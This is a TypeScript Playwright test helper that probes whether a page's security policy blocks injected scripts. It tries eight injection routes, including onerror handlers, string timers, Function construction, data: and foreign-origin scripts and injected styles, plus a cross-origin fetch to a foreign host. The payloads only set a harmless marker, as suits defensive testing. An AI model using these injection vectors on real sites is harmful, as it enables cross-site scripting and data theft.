import type { Page } from "@playwright/test";

/** Each way of running a script that an injected text may try; `run` marks the document. */
const WAYS = ["inline", "html", "attribute", "eval", "function", "data", "foreign", "style"] as const;

/**
 * Tries to run scripts in the page as an injected text would, and to send something to another origin. Returns the ways
 * that worked.
 */
export async function injectScripts(page: Page, foreignHost: string) {
  const ran: string[] = [];
  for (const way of WAYS) if (await page.evaluate(tryWay, { way, foreignHost })) ran.push(way);
  const sent = await page.evaluate(
    (url) =>
      fetch(url, { mode: "no-cors" }).then(
        () => "sent",
        () => "refused",
      ),
    `${foreignHost}/config`,
  );
  return { ran, sent };
}

/** Runs in the page: returns true if the script of this way marked the document. */
async function tryWay({ way, foreignHost }: { way: string; foreignHost: string }): Promise<boolean> {
  const mark = `document.documentElement.dataset.attack="${way}"`;
  const add = (name: string, set: (element: HTMLElement & { src: string }) => void) => {
    const element = document.createElement(name) as HTMLElement & { src: string };
    set(element);
    document.body.append(element);
  };
  const acts: Record<string, () => unknown> = {
    inline: () =>
      add("script", (element) => {
        element.textContent = mark;
      }),
    html: () => document.body.insertAdjacentHTML("beforeend", `<img src="/nothing.png" onerror='${mark}'>`),
    attribute: () =>
      add("img", (element) => {
        element.setAttribute("onerror", mark);
        element.src = "/nothing.png";
      }),
    eval: () => setTimeout(mark as unknown as () => void, 0),
    // The evaluation that drives the page is exempt from the policy, and a timer of it is not.
    function: () => setTimeout(() => Reflect.construct(Function, [mark])(), 0),
    data: () =>
      add("script", (element) => {
        element.src = `data:text/javascript,${encodeURIComponent(mark)}`;
      }),
    foreign: () =>
      add("script", (element) => {
        element.onload = () => {
          document.documentElement.dataset.attack = way;
        };
        element.src = `${foreignHost}/sw.js`;
      }),
    style: () =>
      add("style", (element) => {
        element.textContent = ":root { --attacked: yes }";
        setTimeout(() => {
          if (getComputedStyle(document.documentElement).getPropertyValue("--attacked"))
            document.documentElement.dataset.attack = way;
        }, 20);
      }),
  };
  try {
    await acts[way]?.();
  } catch {
    return false;
  }
  await new Promise((go) => setTimeout(go, 150));
  return document.documentElement.dataset.attack === way;
}
